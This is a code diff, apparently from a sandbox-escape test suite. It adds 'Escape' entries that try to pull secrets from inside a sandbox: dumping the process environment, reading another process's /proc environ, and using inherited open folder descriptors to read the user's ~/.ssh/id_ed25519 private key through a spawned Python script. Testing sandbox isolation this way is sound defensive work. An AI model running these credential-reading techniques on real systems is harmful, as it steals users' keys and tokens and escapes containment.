@@ -26,6 +26,14 @@ async function look(
   throw new Error(last)
 }
 
+function isOpen(fd: number): boolean {
+  try {
+    return statSync(`/proc/self/fd/${fd}/`).isDirectory()
+  } catch {
+    return false
+  }
+}
+
 /** Prints what follows the prefix of secrets wherever it stands in the writable memory of a process. */
 const SCAN = `
 import re
@@ -42,6 +50,34 @@ def show(data):
 `
 
 const reading: Escape[] = [
+  {
+    name: 'find a secret in its own environment',
+    gain: 'what the person keeps in variables',
+    plain: true,
+    proof: 'secret',
+    attempt: () => JSON.stringify(process.env),
+  },
+  {
+    name: 'use a folder that was left open for it (inherited descriptors)',
+    gain: 'whatever lies in the home: a descriptor knows no mounts',
+    plain: true,
+    needs: ['python3'],
+    proof: 'secret',
+    attempt: async () => {
+      const { spawn } = await import('node:child_process')
+      const open = Array.from({ length: 12 }, (_, fd) => (isOpen(fd) ? fd : ('ignore' as const)))
+      const script = `import os
+for fd in range(3, 12):
+    try: print(os.read(os.open('.ssh/id_ed25519', os.O_RDONLY, dir_fd=fd), 4096).decode())
+    except OSError: pass`
+      const child = spawn('/usr/bin/python3', ['-c', script], {
+        stdio: ['ignore', 'pipe', 'ignore', ...open.slice(3)],
+      })
+      let said = ''
+      for await (const chunk of child.stdout ?? []) said += chunk
+      return said
+    },
+  },
   {
     name: 'read the environment of other processes (/proc/*/environ)',
     gain: 'tokens in variables',
